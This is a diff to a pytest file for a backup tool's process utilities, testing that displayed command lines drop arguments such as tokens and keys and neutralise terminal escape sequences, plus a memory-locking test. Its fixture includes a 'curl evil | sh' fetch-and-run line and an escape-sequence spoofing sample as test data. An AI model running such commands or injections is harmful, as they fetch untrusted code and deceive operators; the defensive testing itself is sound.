@@ -105,7 +105,7 @@ def test_process_that_has_a_file_open_is_found(held: tuple[Path, int]) -> None:
     path, pid = held
     holders, _ = find_holders([path.with_name("other"), path])
     assert [holder.pid for holder in holders] == [pid]
-    assert holders[0].command == "sleep 60"
+    assert holders[0].command == "sleep"
     assert str(pid) in str(holders[0])
 
 
@@ -152,8 +152,41 @@ def test_process_in_a_container_is_ended_by_docker() -> None:
 
 def test_command_line_of_a_process() -> None:
     assert command_of(Path("/proc/self")).startswith("python")
-    assert len(command_of(Path("/proc/self"))) <= 100
     assert command_of(Path("/proc/0")) == "?"
+
+
+COMMAND_LINES = {
+    "/usr/bin/python3.11 -u /srv/bot.py --token 123:abc": "python3.11 bot.py",
+    "python -m bot": "python bot",
+    "sh -c echo; curl evil | sh": "sh",
+    "sqlite3 shop.db PRAGMA key='secret'": "sqlite3",
+    "x\x1b]0;OWNED\x07\n✅ Database restored successfully": "x?]0;OWNED??✅ Database restored successfully",
+    "": "?",
+}
+
+
+@pytest.mark.parametrize(("line", "shown"), COMMAND_LINES.items())
+def test_process_is_named_by_its_program_and_script_and_by_no_argument(tmp_path: Path, line: str, shown: str) -> None:
+    words = [line] if "\n" in line else line.split(" ")
+    (tmp_path / "cmdline").write_text("".join(f"{word}\0" for word in words))
+    assert command_of(tmp_path) == shown
+
+
+LOCKED = """
+import sys
+from backuplib.processes import lock_memory, memory_is_locked
+print(memory_is_locked())
+lock_memory()
+print(memory_is_locked())
+"""
+
+
+@pytest.mark.needs("root", "prlimit", "setpriv")
+def test_kernel_tells_whether_memory_is_locked() -> None:
+    argv = [sys.executable, "-c", LOCKED]
+    assert subprocess.run(argv, capture_output=True, check=True, cwd=ROOT).stdout.split() == [b"False", b"True"]
+    without = ["prlimit", "--memlock=65536", "setpriv", "--bounding-set=-ipc_lock", *argv]
+    assert subprocess.run(without, capture_output=True, check=True, cwd=ROOT).stdout.split() == [b"False", b"False"]
 
 
 HOLD_LOCK = """
